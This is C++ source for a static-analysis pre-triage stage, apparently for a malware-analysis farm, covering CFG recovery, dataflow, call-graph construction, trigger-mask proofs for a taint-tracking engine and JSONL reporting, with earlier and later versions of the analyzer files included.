  RegState st = RegState::all_varies();
  bool beyond_inert = false;
  for (u32 p = va; p + vm::kInsnSize <= std::min(page_end, img_end);
       p += vm::kInsnSize) {
    auto d = vm::decode(
        ByteSpan(img.blob.data() + (p - img.base_va), vm::kInsnSize));
    if (!d) break;  // truncated run, exactly like translate()
    if (!inert_under(*d, st)) return;  // unprovable instruction: no hint
    if (!vm::taint_inert(d->op)) beyond_inert = true;
    transfer(*d, p, st);
    run.push_back(*d);
    if (vm::ends_block(d->op)) break;
  }
  if (run.empty() || !beyond_inert) return;
  out.push_back(ElideHint{va, static_cast<u32>(run.size()),
                          vm::insn_seq_hash(run.data(), run.size())});
}

/// True when the syscall at `va` provably cannot mint executable code,
/// spawn a process, or touch another process's memory — the conditions
/// under which masking a trigger on "no such opcode in the recovered
/// blocks" stays sound (nothing the syscall does can put new opcodes in
/// front of the fetch unit). Requires a constant service number; kernel
/// copy-in services additionally need a constant destination window that
/// misses every recovered block (overwriting data or even dead code is
/// fine — under a closed CFG neither can ever execute).
bool code_silent_syscall(const Cfg& cfg, const DataflowResult& df, u32 va) {
  auto it = df.syscall_args.find(va);
  if (it == df.syscall_args.end()) return false;
  const std::array<AbsVal, 5>& args = it->second;
  if (args[0].kind != ValKind::kConst) return false;

  // Whitelisted copy-ins: index of the destination-buffer and length args.
  int dst = -1, len = -1;
  switch (static_cast<os::Sys>(args[0].c)) {
    // No guest-memory writes, own process only, no code minting.
    case os::Sys::kNtCreateFile:
    case os::Sys::kNtOpenFile:
    case os::Sys::kNtWriteFile:
    case os::Sys::kNtCloseHandle:
    case os::Sys::kNtDeleteFile:
    case os::Sys::kNtSeekFile:
    case os::Sys::kNtQueryFileSize:
    case os::Sys::kNtRenameFile:
    case os::Sys::kNtTruncateFile:
    case os::Sys::kNtFlushFile:
    case os::Sys::kNtQueryFileVersion:
    case os::Sys::kNtWriteFileAt:
    case os::Sys::kNtQueryFileExists:
    case os::Sys::kNtGetCurrentPid:
    case os::Sys::kNtWaitProcess:
    case os::Sys::kNtOpenProcessByName:
    case os::Sys::kNtSocket:
    case os::Sys::kNtConnect:
    case os::Sys::kNtBind:
    case os::Sys::kNtSend:
    case os::Sys::kNtPollRecv:
    case os::Sys::kNtResolveHost:
    case os::Sys::kNtDebugPrint:
    case os::Sys::kNtGetTick:
    case os::Sys::kNtYield:
    case os::Sys::kNtExit:
    case os::Sys::kNtGetModuleDirectory:
    case os::Sys::kNtAddAtom:
      return true;
    // Kernel copy-ins into the caller: sound when the written window is
    // a compile-time constant that cannot overlap recovered code.
    case os::Sys::kNtReadFile:
    case os::Sys::kNtRecv:
    case os::Sys::kNtReadDevice:
    case os::Sys::kNtGetAtom:
      dst = 2; len = 3;
      break;
    case os::Sys::kNtReadFileAt:
      dst = 3; len = 4;
      break;
    case os::Sys::kNtGetRandom:
      dst = 1; len = 2;
      break;
    // Everything else (alloc/protect/free, remote read/write, unmap,
    // create/suspend/resume/terminate process, set entry point, process
    // list, load library) can change what code runs where: never silent.
    default:
      return false;
  }
  if (args[dst].kind != ValKind::kConst || args[len].kind != ValKind::kConst) {
    return false;
  }
  const u32 lo = args[dst].c;
  const u32 hi = lo + args[len].c;
  if (hi < lo) return false;  // wrapped window: give up
  for (const auto& [bva, bb] : cfg.blocks) {
    if (bb.start < hi && lo < bb.end) return false;
  }
  return true;
}

/// Trigger-reachability bound for one image (see TriggerMask in the
/// header). Returns 0 unless the CFG is closed-world: converged, every
/// indirect resolved, no escaping direct targets, no decode failures.
u8 compute_trigger_mask(const Cfg& cfg, const DataflowResult& df,
                        bool converged) {
  if (!converged || !cfg.escaping_targets.empty()) return 0;
  for (const IndirectSite& site : cfg.indirects) {
    if (!site.resolved) return 0;
  }
  // One invalid-site shape is tolerable in a closed world: the fall edge
  // of a proven-noreturn NtExit syscall running into trailing data (every
  // program ends that way, and the edge can never be taken). Any other
  // undecodable site — a misaligned root, a branch into data — means code
  // we cannot see could run, and no bit survives.
  auto only_exit_falls_into = [&](u32 va) {
    bool found = false;
    for (const auto& [bva, bb] : cfg.blocks) {
      for (const Edge& e : bb.succs) {
        if (e.target != va) continue;
        if (bb.insns.empty() ||
            bb.terminator().op != vm::Opcode::kSyscall) {
          return false;
        }
        auto sit = df.syscall_args.find(bb.end - vm::kInsnSize);
        if (sit == df.syscall_args.end()) return false;
        const AbsVal& num = sit->second[0];
        if (num.kind != ValKind::kConst ||
            num.c != static_cast<u32>(os::Sys::kNtExit)) {
          return false;
        }
        found = true;
      }
    }
    return found;
  };
  for (u32 va : cfg.invalid_sites) {
    if (!only_exit_falls_into(va)) return 0;
  }

  bool has_store = false, has_load = false, has_syscall = false;
  bool syscalls_silent = true;
  for (const auto& [va, bb] : cfg.blocks) {
    for (size_t i = 0; i < bb.insns.size(); ++i) {
      const vm::Opcode op = bb.insns[i].op;
      if (vm::is_store(op)) has_store = true;
      if (vm::is_load(op)) has_load = true;
      if (op == vm::Opcode::kSyscall) {
        has_syscall = true;
        if (!code_silent_syscall(cfg, df, bb.insn_va(i))) {
          syscalls_silent = false;
        }
      }
    }
  }
  // No stores plus code-silent syscalls closes the world: the recovered
  // blocks are all the code that can ever execute, so the opcode census
  // is a sound per-trigger bound. With stores (or an opaque syscall) the
  // program could rewrite its own text, and no census bit survives.
  u8 mask = 0;
  if (!has_store && syscalls_silent) {
    mask |= kMaskTaintedStore | kMaskExecPageWrite;
    if (!has_load) mask |= kMaskTaintedLoad;
    if (!has_syscall) mask |= kMaskSyscallArg;
  }
  return mask;
}

}  // namespace

std::string trigger_mask_json(u8 mask) {
  std::string out = "[";
  auto emit = [&](u8 bit, const char* name) {
    if (!(mask & bit)) return;
    if (out.size() > 1) out += ',';
    out += '"';
    out += name;
    out += '"';
  };
  // core::Trigger order (tainted-fetch is never maskable).
  emit(kMaskTaintedLoad, "tainted-load");
  emit(kMaskTaintedStore, "tainted-store");
  emit(kMaskExecPageWrite, "exec-page-write");
  emit(kMaskSyscallArg, "syscall-arg");
  out += ']';
  return out;
}

ImageReport analyze_image(const os::Image& img, const SaOptions& opts) {
  ImageReport rep;
  rep.image = img.name;
  rep.base = img.base_va;
  rep.entry = img.entry_va();
  rep.size = static_cast<u32>(img.blob.size());

  // Alternate recovery and dataflow until no new indirect target resolves:
  // a target proven by constant propagation becomes a descent root, which
  // can expose more code, which can feed the next resolution. Call sites
  // are modelled by bottom-up function summaries over the call graph; the
  // summaries sharpen the dataflow, which can resolve more targets, which
  // reshapes the call graph on the next round.
  std::map<u32, u32> resolved;
  Cfg cfg;
  DataflowResult df;
  SummaryTable summaries;
  u32 passes = std::max(1u, opts.max_passes);
  bool progressed = false;
  for (u32 pass = 0; pass < passes; ++pass) {
    cfg = recover_cfg(img, resolved);
    CallGraph cg = build_callgraph(cfg);
    rep.functions = static_cast<u32>(cg.functions.size());
    summaries = compute_summaries(cfg, cg);
    SummaryCallModel model(summaries);
    df = run_dataflow(cfg, &model);
    ++rep.passes;
    progressed = false;
    for (const IndirectSite& site : cfg.indirects) {
      if (site.resolved || resolved.count(site.va)) continue;
      auto it = df.indirect_value.find(site.va);
      if (it == df.indirect_value.end()) continue;
      const AbsVal& v = it->second;
      if (v.kind != ValKind::kConst) continue;
      if (!cfg.contains(v.c) || (v.c - cfg.base) % vm::kInsnSize != 0) {
        continue;  // constant, but not a code address we can descend into
      }
      resolved[site.va] = v.c;
      progressed = true;
    }
    if (!progressed) break;
  }
  // Progress on the final round means resolution was still expanding the
  // CFG when the pass budget ran out: report it, don't mask it.
  rep.converged = !progressed;

  rep.blocks = static_cast<u32>(cfg.blocks.size());
  rep.insns = cfg.insn_count;
  for (const auto& [va, bb] : cfg.blocks) {
    bool inert = true;
    for (const vm::Instruction& insn : bb.insns) {
      if (!vm::taint_inert(insn.op)) { inert = false; break; }
    }
    if (inert) {
      ++rep.inert_blocks;
      rep.inert_insns += static_cast<u32>(bb.insns.size());
    }
    // Summary-level inertness: context-free proof over the block body.
    RegState st = RegState::all_varies();
    bool sum_inert = true;
    for (size_t i = 0; i < bb.insns.size(); ++i) {
      if (!inert_under(bb.insns[i], st)) { sum_inert = false; break; }
      transfer(bb.insns[i], bb.insn_va(i), st);
    }
    if (sum_inert) {
      ++rep.summary_inert_blocks;
      rep.summary_inert_insns += static_cast<u32>(bb.insns.size());
    }
    prove_run(img, va, rep.elide_hints);
  }
  rep.indirect_sites = static_cast<u32>(cfg.indirects.size());
  for (const IndirectSite& site : cfg.indirects) {
    if (site.resolved) ++rep.resolved_indirects;
  }
  rep.dead_regions = static_cast<u32>(cfg.dead_regions.size());
  rep.invalid_sites = static_cast<u32>(cfg.invalid_sites.size());
  rep.trigger_mask = compute_trigger_mask(cfg, df, rep.converged);

  RuleContext ctx{img, cfg, df};
  rep.findings = run_rules(ctx);
  for (const SaFinding& f : rep.findings) {
    rep.risk += severity_weight(f.severity);
  }
  rep.summaries = std::move(summaries);
  rep.cfg = std::move(cfg);

  if (opts.metrics) {
    opts.metrics->add(obs::Ctr::kSaImagesAnalyzed);
    opts.metrics->add(obs::Ctr::kSaBlocksRecovered, rep.blocks);
    opts.metrics->add(obs::Ctr::kSaInsnsDecoded, rep.insns);
    opts.metrics->add(obs::Ctr::kSaIndirectsResolved, rep.resolved_indirects);
    opts.metrics->add(obs::Ctr::kSaRulesFired, rep.findings.size());
  }
  return rep;
}

ProgramReport analyze_images(const std::string& name,
                             const std::vector<os::Image>& images,
                             const SaOptions& opts) {
  ProgramReport rep;
  rep.name = name;
  rep.risk_threshold = std::max(1u, opts.risk_threshold);
  rep.trigger_mask = images.empty() ? 0 : 0xff;
  for (const os::Image& img : images) {
    ImageReport ir = analyze_image(img, opts);
    rep.trigger_mask &= ir.trigger_mask;
    ++rep.images;
    rep.blocks += ir.blocks;
    rep.insns += ir.insns;
    rep.findings += static_cast<u32>(ir.findings.size());
    rep.risk += ir.risk;
    for (const SaFinding& f : ir.findings) rep.rules.push_back(f.rule);
    rep.per_image.push_back(std::move(ir));
  }
  std::sort(rep.rules.begin(), rep.rules.end());
  rep.rules.erase(std::unique(rep.rules.begin(), rep.rules.end()),
                  rep.rules.end());
  return rep;
}

std::string rules_json(const std::vector<std::string>& rules) {
  std::string out = "[";
  for (size_t i = 0; i < rules.size(); ++i) {
    if (i) out += ',';
    out += '"';
    out += json_escape(rules[i]);
    out += '"';
  }
  out += ']';
  return out;
}

std::string finding_jsonl(const std::string& program,
                          const std::string& image, const SaFinding& f) {
  JsonWriter w;
  w.field("type", "finding")
      .field("program", program)
      .field("image", image)
      .field("rule", f.rule)
      .field("severity", severity_name(f.severity))
      .field("va", f.va)
      .field("disasm", f.disasm)
      .field("detail", f.detail);
  return w.str();
}

std::string image_jsonl(const std::string& program, const ImageReport& r) {
  JsonWriter w;
  w.field("type", "image")
      .field("program", program)
      .field("image", r.image)
      .field("base", r.base)
      .field("entry", r.entry)
      .field("size", r.size)
      .field("blocks", r.blocks)
      .field("insns", r.insns)
      .field("inert_blocks", r.inert_blocks)
      .field("inert_insns", r.inert_insns)
      .field("summary_inert_blocks", r.summary_inert_blocks)
      .field("summary_inert_insns", r.summary_inert_insns)
      .field("functions", r.functions)
      .field("elide_hints", static_cast<u32>(r.elide_hints.size()))
      .field("indirect_sites", r.indirect_sites)
      .field("resolved_indirects", r.resolved_indirects)
      .field("dead_regions", r.dead_regions)
      .field("invalid_sites", r.invalid_sites)
      .field("passes", r.passes)
      .field("converged", r.converged)
      .field("trigger_mask", static_cast<u32>(r.trigger_mask))
      .field("findings", static_cast<u32>(r.findings.size()))
      .field("risk", r.risk);
  return w.str();
}

std::string program_jsonl(const std::string& category,
                          const ProgramReport& r) {
  JsonWriter w;
  w.field("type", "program")
      .field("name", r.name)
      .field("category", category)
      .field("images", r.images)
      .field("blocks", r.blocks)
      .field("insns", r.insns)
      .field("findings", r.findings)
      .field("risk", r.risk)
      .field("static_flagged", r.flagged())
      .raw_field("rules", rules_json(r.rules));
  return w.str();
}

std::string policy_jsonl(const std::string& category,
                         const ProgramReport& r) {
  JsonWriter w;
  w.field("type", "policy")
      .field("program", r.name)
      .field("category", category)
      .field("images", r.images)
      .field("mask", static_cast<u32>(r.trigger_mask))
      .raw_field("pruned", trigger_mask_json(r.trigger_mask));
  return w.str();
}

}  // namespace faros::sa
