#include "sa/analyzer.h"

#include <algorithm>

#include "common/json.h"

namespace faros::sa {

ImageReport analyze_image(const os::Image& img, const SaOptions& opts) {
  ImageReport rep;
  rep.image = img.name;
  rep.base = img.base_va;
  rep.entry = img.entry_va();
  rep.size = static_cast<u32>(img.blob.size());

  // Alternate recovery and dataflow until no new indirect target resolves:
  // a target proven by constant propagation becomes a descent root, which
  // can expose more code, which can feed the next resolution.
  std::map<u32, u32> resolved;
  Cfg cfg;
  DataflowResult df;
  u32 passes = std::max(1u, opts.max_passes);
  for (u32 pass = 0; pass < passes; ++pass) {
    cfg = recover_cfg(img, resolved);
    df = run_dataflow(cfg);
    ++rep.passes;
    bool progressed = false;
    for (const IndirectSite& site : cfg.indirects) {
      if (site.resolved || resolved.count(site.va)) continue;
      auto it = df.indirect_value.find(site.va);
      if (it == df.indirect_value.end()) continue;
      const AbsVal& v = it->second;
      if (v.kind != ValKind::kConst) continue;
      if (!cfg.contains(v.c) || (v.c - cfg.base) % vm::kInsnSize != 0) {
        continue;  // constant, but not a code address we can descend into
      }
      resolved[site.va] = v.c;
      progressed = true;
    }
    if (!progressed) break;
  }

  rep.blocks = static_cast<u32>(cfg.blocks.size());
  rep.insns = cfg.insn_count;
  for (const auto& [va, bb] : cfg.blocks) {
    (void)va;
    bool inert = true;
    for (const vm::Instruction& insn : bb.insns) {
      if (!vm::taint_inert(insn.op)) { inert = false; break; }
    }
    if (inert) {
      ++rep.inert_blocks;
      rep.inert_insns += static_cast<u32>(bb.insns.size());
    }
  }
  rep.indirect_sites = static_cast<u32>(cfg.indirects.size());
  for (const IndirectSite& site : cfg.indirects) {
    if (site.resolved) ++rep.resolved_indirects;
  }
  rep.dead_regions = static_cast<u32>(cfg.dead_regions.size());
  rep.invalid_sites = static_cast<u32>(cfg.invalid_sites.size());

  RuleContext ctx{img, cfg, df};
  rep.findings = run_rules(ctx);
  for (const SaFinding& f : rep.findings) {
    rep.risk += severity_weight(f.severity);
  }
  rep.cfg = std::move(cfg);

  if (opts.metrics) {
    opts.metrics->add(obs::Ctr::kSaImagesAnalyzed);
    opts.metrics->add(obs::Ctr::kSaBlocksRecovered, rep.blocks);
    opts.metrics->add(obs::Ctr::kSaInsnsDecoded, rep.insns);
    opts.metrics->add(obs::Ctr::kSaIndirectsResolved, rep.resolved_indirects);
    opts.metrics->add(obs::Ctr::kSaRulesFired, rep.findings.size());
  }
  return rep;
}

ProgramReport analyze_images(const std::string& name,
                             const std::vector<os::Image>& images,
                             const SaOptions& opts) {
  ProgramReport rep;
  rep.name = name;
  for (const os::Image& img : images) {
    ImageReport ir = analyze_image(img, opts);
    ++rep.images;
    rep.blocks += ir.blocks;
    rep.insns += ir.insns;
    rep.findings += static_cast<u32>(ir.findings.size());
    rep.risk += ir.risk;
    for (const SaFinding& f : ir.findings) rep.rules.push_back(f.rule);
    rep.per_image.push_back(std::move(ir));
  }
  std::sort(rep.rules.begin(), rep.rules.end());
  rep.rules.erase(std::unique(rep.rules.begin(), rep.rules.end()),
                  rep.rules.end());
  return rep;
}

std::string rules_json(const std::vector<std::string>& rules) {
  std::string out = "[";
  for (size_t i = 0; i < rules.size(); ++i) {
    if (i) out += ',';
    out += '"';
    out += json_escape(rules[i]);
    out += '"';
  }
  out += ']';
  return out;
}

std::string finding_jsonl(const std::string& program,
                          const std::string& image, const SaFinding& f) {
  JsonWriter w;
  w.field("type", "finding")
      .field("program", program)
      .field("image", image)
      .field("rule", f.rule)
      .field("severity", severity_name(f.severity))
      .field("va", f.va)
      .field("disasm", f.disasm)
      .field("detail", f.detail);
  return w.str();
}

std::string image_jsonl(const std::string& program, const ImageReport& r) {
  JsonWriter w;
  w.field("type", "image")
      .field("program", program)
      .field("image", r.image)
      .field("base", r.base)
      .field("entry", r.entry)
      .field("size", r.size)
      .field("blocks", r.blocks)
      .field("insns", r.insns)
      .field("inert_blocks", r.inert_blocks)
      .field("inert_insns", r.inert_insns)
      .field("indirect_sites", r.indirect_sites)
      .field("resolved_indirects", r.resolved_indirects)
      .field("dead_regions", r.dead_regions)
      .field("invalid_sites", r.invalid_sites)
      .field("passes", r.passes)
      .field("findings", static_cast<u32>(r.findings.size()))
      .field("risk", r.risk);
  return w.str();
}

std::string program_jsonl(const std::string& category,
                          const ProgramReport& r) {
  JsonWriter w;
  w.field("type", "program")
      .field("name", r.name)
      .field("category", category)
      .field("images", r.images)
      .field("blocks", r.blocks)
      .field("insns", r.insns)
      .field("findings", r.findings)
      .field("risk", r.risk)
      .field("static_flagged", r.flagged())
      .raw_field("rules", rules_json(r.rules));
  return w.str();
}

}  // namespace faros::sa
