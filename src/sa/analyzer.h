// Top of the static-analysis stack (src/sa): drives CFG recovery and the
// dataflow pass to a fixpoint (each pass may resolve more indirect-branch
// targets, which can expose more code), runs the lint rules, and folds the
// results into a per-image and per-program report with a deterministic
// JSONL serialisation — the zero-execution pre-triage stage in front of
// the farm's record/replay pipeline.
#pragma once

#include "obs/obs.h"
#include "sa/rules.h"

namespace faros::sa {

/// A program whose summed finding weight reaches this is "static flagged":
/// one alert, or several distinct warn-level shapes. The static verdict is
/// an analyst oracle next to the dynamic one, never a replacement.
inline constexpr u32 kStaticRiskThreshold = 10;

struct SaOptions {
  /// CFG <-> dataflow rounds; each round may resolve further indirect
  /// targets. Corpus programs converge in 2.
  u32 max_passes = 4;
  /// Counter sink (sa_* counters); null = no metrics.
  obs::MetricSink* metrics = nullptr;
};

struct ImageReport {
  std::string image;
  u32 base = 0, entry = 0, size = 0;
  u32 blocks = 0, insns = 0;
  /// Blocks (and their instruction total) whose every opcode is
  /// vm::taint_inert — the static upper bound on what the runtime
  /// block-translation cache (vm/btcache.h) may run uninstrumented.
  u32 inert_blocks = 0, inert_insns = 0;
  u32 indirect_sites = 0, resolved_indirects = 0;
  u32 dead_regions = 0, invalid_sites = 0;
  u32 passes = 0;  // analysis rounds until the indirect fixpoint
  std::vector<SaFinding> findings;
  u32 risk = 0;  // summed severity weights

  Cfg cfg;  // final-pass CFG, for tooling and the golden tests
};

ImageReport analyze_image(const os::Image& img, const SaOptions& opts = {});

/// Aggregate over every image of one corpus program (a farm JobSpec maps
/// to one of these).
struct ProgramReport {
  std::string name;
  u32 images = 0, blocks = 0, insns = 0, findings = 0, risk = 0;
  std::vector<std::string> rules;  // sorted unique rule names that fired
  std::vector<ImageReport> per_image;

  bool flagged() const { return risk >= kStaticRiskThreshold; }
};

ProgramReport analyze_images(const std::string& name,
                             const std::vector<os::Image>& images,
                             const SaOptions& opts = {});

// --- deterministic JSONL (faros_lint output; same contract as
// farm/results.h: a pure function of the image bytes) ---

/// {"type":"finding","program":...,"image":...,"rule":...,...}
std::string finding_jsonl(const std::string& program,
                          const std::string& image, const SaFinding& f);

/// {"type":"image","program":...,"image":...,"blocks":...,...}
std::string image_jsonl(const std::string& program, const ImageReport& r);

/// {"type":"program","name":...,"category":...,"risk":...,...}
std::string program_jsonl(const std::string& category,
                          const ProgramReport& r);

/// Pre-rendered JSON array of the rule names, for embedding.
std::string rules_json(const std::vector<std::string>& rules);

}  // namespace faros::sa
