// Top of the static-analysis stack (src/sa): drives CFG recovery and the
// dataflow pass to a fixpoint (each pass may resolve more indirect-branch
// targets, which can expose more code), runs the lint rules, and folds the
// results into a per-image and per-program report with a deterministic
// JSONL serialisation — the zero-execution pre-triage stage in front of
// the farm's record/replay pipeline.
#pragma once

#include "obs/obs.h"
#include "sa/rules.h"
#include "sa/summary.h"

namespace faros::sa {

/// A program whose summed finding weight reaches this is "static flagged":
/// one alert, or several distinct warn-level shapes. The static verdict is
/// an analyst oracle next to the dynamic one, never a replacement.
inline constexpr u32 kStaticRiskThreshold = 10;

struct SaOptions {
  /// CFG <-> dataflow rounds; each round may resolve further indirect
  /// targets. Corpus programs converge in 2.
  u32 max_passes = 4;
  /// Summed finding weight at which a program counts as static-flagged
  /// (faros_lint --risk-threshold).
  u32 risk_threshold = kStaticRiskThreshold;
  /// Counter sink (sa_* counters); null = no metrics.
  obs::MetricSink* metrics = nullptr;
};

/// One proven-elidable runtime block: starting at `va`, the exact
/// instruction sequence the block-translation cache would decode there
/// (`insns` of them, content-stamped by vm::insn_seq_hash) runs only
/// vm::taint_inert opcodes plus kDivu sites whose divisor is a non-zero
/// constant re-derivable from *any* entry state — so the engine may run it
/// uninstrumented under the usual clean-bank guard even though the plain
/// per-opcode inert bit says no.
struct ElideHint {
  u32 va = 0;
  u32 insns = 0;
  u64 hash = 0;
  bool operator==(const ElideHint&) const = default;
};

/// Statically-unreachable runtime rule triggers (policy-aware pruning).
/// A set bit asserts "no DIFT event of this kind can occur while this
/// image's code executes"; the farm intersects the per-image masks of a
/// job and hands the result to core::RuleEngine::set_static_mask, which
/// then reports the trigger unbound so the hot path skips its input
/// computation. The bits are only claimed under a closed-world proof:
/// the CFG converged with every indirect resolved, no escaping branches
/// and no decode failures, AND every reachable syscall is a constant
/// number from a code-silent set — services that cannot mint executable
/// code, spawn processes, or touch another process's memory (kernel
/// copy-ins additionally need a constant destination window that misses
/// every recovered block). Under those conditions all code that can ever
/// run is exactly the recovered blocks, so an opcode census is a sound
/// trigger-reachability bound. tainted-fetch is deliberately absent:
/// fetching injected code is the event the whole system exists to catch,
/// so it is never maskable.
enum TriggerMask : u8 {
  kMaskTaintedLoad = 1u << 0,   // no load/pop opcode reachable
  kMaskTaintedStore = 1u << 1,  // no store/push opcode reachable
  kMaskExecPageWrite = 1u << 2, // ditto (both fire only on guest stores)
  kMaskSyscallArg = 1u << 3,    // no syscall opcode reachable
};

/// JSON array of the pruned trigger names ('["tainted-store",...]'),
/// in core::Trigger order. "[]" for mask 0.
std::string trigger_mask_json(u8 mask);

struct ImageReport {
  std::string image;
  u32 base = 0, entry = 0, size = 0;
  u32 blocks = 0, insns = 0;
  /// Blocks (and their instruction total) whose every opcode is
  /// vm::taint_inert — the static upper bound on what the runtime
  /// block-translation cache (vm/btcache.h) may run uninstrumented
  /// without any summary facts.
  u32 inert_blocks = 0, inert_insns = 0;
  /// Blocks provable inert with summary-level facts: every instruction is
  /// taint_inert *or* a kDivu whose divisor is a proven non-zero constant
  /// from the block's own prefix (context-free, so the proof holds for
  /// any runtime entry). Superset of inert_blocks; the delta is what the
  /// elide hints export to the engine.
  u32 summary_inert_blocks = 0, summary_inert_insns = 0;
  u32 functions = 0;  // call-graph functions discovered
  u32 indirect_sites = 0, resolved_indirects = 0;
  u32 dead_regions = 0, invalid_sites = 0;
  u32 passes = 0;  // analysis rounds until the indirect fixpoint
  /// False when max_passes ran out while indirect resolution was still
  /// making progress — the report may be based on an incomplete CFG.
  bool converged = true;
  /// TriggerMask bits statically proven unreachable for this image
  /// (0 whenever the closed-world proof fails).
  u8 trigger_mask = 0;
  std::vector<SaFinding> findings;
  u32 risk = 0;  // summed severity weights

  std::vector<ElideHint> elide_hints;  // ascending va
  SummaryTable summaries;              // final-pass function summaries
  Cfg cfg;  // final-pass CFG, for tooling and the golden tests
};

ImageReport analyze_image(const os::Image& img, const SaOptions& opts = {});

/// Aggregate over every image of one corpus program (a farm JobSpec maps
/// to one of these).
struct ProgramReport {
  std::string name;
  u32 images = 0, blocks = 0, insns = 0, findings = 0, risk = 0;
  u32 risk_threshold = kStaticRiskThreshold;  // from SaOptions
  /// Intersection of the per-image trigger masks: a bit survives only
  /// when every image of the program proves it (a job replays them all
  /// under one engine, so the engine-level mask must hold everywhere).
  /// 0 when the program has no images.
  u8 trigger_mask = 0;
  std::vector<std::string> rules;  // sorted unique rule names that fired
  std::vector<ImageReport> per_image;

  bool flagged() const { return risk >= risk_threshold; }
};

ProgramReport analyze_images(const std::string& name,
                             const std::vector<os::Image>& images,
                             const SaOptions& opts = {});

// --- deterministic JSONL (faros_lint output; same contract as
// farm/results.h: a pure function of the image bytes) ---

/// {"type":"finding","program":...,"image":...,"rule":...,...}
std::string finding_jsonl(const std::string& program,
                          const std::string& image, const SaFinding& f);

/// {"type":"image","program":...,"image":...,"blocks":...,...}
std::string image_jsonl(const std::string& program, const ImageReport& r);

/// {"type":"program","name":...,"category":...,"risk":...,...}
std::string program_jsonl(const std::string& category,
                          const ProgramReport& r);

/// {"type":"policy","program":...,"mask":...,"pruned":[...],...} — the
/// faros_lint --policies line: which rule triggers are statically
/// unreachable for the whole program.
std::string policy_jsonl(const std::string& category,
                         const ProgramReport& r);

/// Pre-rendered JSON array of the rule names, for embedding.
std::string rules_json(const std::vector<std::string>& rules);

}  // namespace faros::sa
