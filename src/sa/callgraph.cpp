#include "sa/callgraph.h"

#include <algorithm>

namespace faros::sa {

namespace {

/// Collects the intraprocedural closure and call sites of one function.
void build_body(const Cfg& cfg, Function& fn) {
  std::vector<u32> stack{fn.entry};
  while (!stack.empty()) {
    u32 va = stack.back();
    stack.pop_back();
    if (!fn.blocks.insert(va).second) continue;
    auto it = cfg.blocks.find(va);
    if (it == cfg.blocks.end()) continue;
    const BasicBlock& blk = it->second;
    for (const Edge& e : blk.succs) {
      if (e.kind != EdgeKind::kCall) stack.push_back(e.target);
    }
    if (blk.insns.empty() || !vm::is_call(blk.terminator().op)) continue;
    CallSite site;
    site.va = blk.insn_va(blk.insns.size() - 1);
    site.op = blk.terminator().op;
    for (const Edge& e : blk.succs) {
      if (e.kind == EdgeKind::kCall) {
        site.resolved = true;
        site.target = e.target;
        break;
      }
    }
    if (site.resolved) {
      fn.callees.insert(site.target);
    } else {
      fn.has_unresolved_call = true;
    }
    fn.call_sites.push_back(site);
  }
  std::sort(fn.call_sites.begin(), fn.call_sites.end(),
            [](const CallSite& a, const CallSite& b) { return a.va < b.va; });
}

/// Iterative Tarjan over the callee relation. Emits SCCs in reverse
/// topological order of the condensation — callees before callers — which
/// is the bottom-up order the summary pass consumes directly.
struct Tarjan {
  const std::map<u32, Function>& fns;
  std::map<u32, u32> index, lowlink;
  std::set<u32> on_stack;
  std::vector<u32> stack;
  u32 next_index = 0;
  std::vector<std::vector<u32>> sccs;

  struct Frame {
    u32 v;
    std::set<u32>::const_iterator child, end;
  };

  explicit Tarjan(const std::map<u32, Function>& f) : fns(f) {}

  void push_node(u32 v, std::vector<Frame>& frames) {
    index[v] = lowlink[v] = next_index++;
    stack.push_back(v);
    on_stack.insert(v);
    const std::set<u32>& cs = fns.at(v).callees;
    frames.push_back(Frame{v, cs.begin(), cs.end()});
  }

  void run(u32 root) {
    std::vector<Frame> frames;
    push_node(root, frames);
    while (!frames.empty()) {
      Frame& f = frames.back();
      if (f.child != f.end) {
        u32 w = *f.child++;
        if (!fns.count(w)) continue;
        if (!index.count(w)) {
          push_node(w, frames);
        } else if (on_stack.count(w)) {
          lowlink[f.v] = std::min(lowlink[f.v], index[w]);
        }
      } else {
        u32 v = f.v;
        frames.pop_back();
        if (!frames.empty()) {
          u32 p = frames.back().v;
          lowlink[p] = std::min(lowlink[p], lowlink[v]);
        }
        if (lowlink[v] == index[v]) {
          std::vector<u32> scc;
          for (;;) {
            u32 w = stack.back();
            stack.pop_back();
            on_stack.erase(w);
            scc.push_back(w);
            if (w == v) break;
          }
          std::sort(scc.begin(), scc.end());
          sccs.push_back(std::move(scc));
        }
      }
    }
  }
};

}  // namespace

CallGraph build_callgraph(const Cfg& cfg) {
  CallGraph cg;

  // Function entries: the image entry, every export, and every kCall-edge
  // target anywhere in the CFG (direct calls and resolved kCallr sites).
  std::set<u32> entries;
  if (cfg.blocks.count(cfg.entry)) entries.insert(cfg.entry);
  for (u32 va : cfg.export_vas) {
    if (cfg.blocks.count(va)) entries.insert(va);
  }
  for (const auto& [start, blk] : cfg.blocks) {
    (void)start;
    for (const Edge& e : blk.succs) {
      if (e.kind == EdgeKind::kCall && cfg.blocks.count(e.target)) {
        entries.insert(e.target);
      }
    }
  }

  for (u32 entry : entries) {
    Function fn;
    fn.entry = entry;
    build_body(cfg, fn);
    cg.functions.emplace(entry, std::move(fn));
  }

  Tarjan t(cg.functions);
  for (const auto& [entry, fn] : cg.functions) {
    (void)fn;
    if (!t.index.count(entry)) t.run(entry);
  }
  cg.sccs = std::move(t.sccs);
  return cg;
}

}  // namespace faros::sa
