// Call graph over the recovered CFG (src/sa/cfg.h): functions are the
// entry point, every export, and every kCall-edge target (direct calls and
// dataflow-resolved kCallr sites); a function's body is the intraprocedural
// closure of its entry block over fall/taken/indirect edges. Recursion is
// handled by an SCC condensation (iterative Tarjan) emitted callee-first,
// which is exactly the order the bottom-up summary pass (sa/summary.h)
// wants to consume.
#pragma once

#include <set>
#include <vector>

#include "sa/cfg.h"

namespace faros::sa {

/// One call instruction inside a function body. Unresolved sites (opaque
/// kCallr, or a direct target outside the recovered code) are the
/// interprocedural blind spot: summaries fall back to clobber-all there.
struct CallSite {
  u32 va = 0;
  vm::Opcode op = vm::Opcode::kCall;
  bool resolved = false;
  u32 target = 0;  // callee entry, valid when resolved
};

struct Function {
  u32 entry = 0;
  /// Body block starts: the closure of `entry` over non-kCall edges.
  std::set<u32> blocks;
  std::vector<CallSite> call_sites;  // ascending va
  std::set<u32> callees;             // resolved call targets
  bool has_unresolved_call = false;
};

struct CallGraph {
  /// Every discovered function, keyed by entry va.
  std::map<u32, Function> functions;
  /// SCC condensation of the callee relation, callee-first: every callee
  /// of a function in scc i lives in some scc j <= i (j == i exactly for
  /// recursion). Each SCC lists member entries in ascending va.
  std::vector<std::vector<u32>> sccs;

  const Function* function_of(u32 entry) const {
    auto it = functions.find(entry);
    return it == functions.end() ? nullptr : &it->second;
  }
};

